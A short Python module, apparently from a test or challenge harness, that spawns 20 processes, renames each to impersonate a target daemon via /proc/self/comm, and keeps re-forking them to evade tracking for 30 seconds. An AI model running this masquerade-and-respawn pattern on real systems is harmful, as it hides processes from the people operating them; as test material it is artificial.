import os
import time

from . import _kit, _target


def run_on():
    end = time.monotonic() + 30
    while time.monotonic() < end:
        try:
            if os.fork():
                os._exit(0)
            os.setsid()
        except OSError:
            pass


@_kit.plan
def scatter():
    for _ in range(20):
        try:
            if os.fork() == 0:
                with open("/proc/self/comm", "w") as file:
                    file.write(_target.DAEMON)
                run_on()
                os._exit(0)
        except OSError:
            break
